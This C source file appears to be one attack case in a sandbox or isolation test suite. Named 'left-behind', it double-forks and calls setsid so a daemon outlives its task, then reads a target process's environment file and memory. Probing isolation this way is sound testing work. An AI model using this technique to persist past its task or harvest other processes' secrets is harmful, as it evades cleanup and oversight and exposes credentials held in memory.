// A daemon that outlives its task: double fork and setsid take it out of every
// process group its parent knows. A while later it reads what it can. setsid(2)
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void Linger(pid_t target, int running) {
  alarm(12);  // alarms do not pass a fork
  if (write(running, "", 1) != 1) _exit(1);
  close(running);
  const struct timespec until_the_task_is_gone = {0, 900 * 1000 * 1000};
  nanosleep(&until_the_task_is_gone, NULL);
  HuntFile(target, "environ");
  ReadAllMemory(target);
  fflush(stdout);
  _exit(0);
}

static void LeftBehind(pid_t target, char** arguments) {
  (void)arguments;
  int running[2];
  if (pipe(running) != 0) {
    Refused("pipe");
    return;
  }
  const pid_t child = fork();
  if (child < 0) Refused("fork");
  if (child == 0) {
    if (setsid() < 0) Refused("setsid");
    const pid_t daemon = fork();
    if (daemon == 0) Linger(target, running[1]);
    if (daemon < 0) Refused("fork");
    fflush(stdout);
    _exit(0);
  }
  close(running[1]);
  if (child > 0) waitpid(child, NULL, 0);
  char byte;
  if (read(running[0], &byte, 1) == 1) printf("left behind: a process in a session of its own\n");
  close(running[0]);
}

ATTACK("left-behind", LeftBehind)
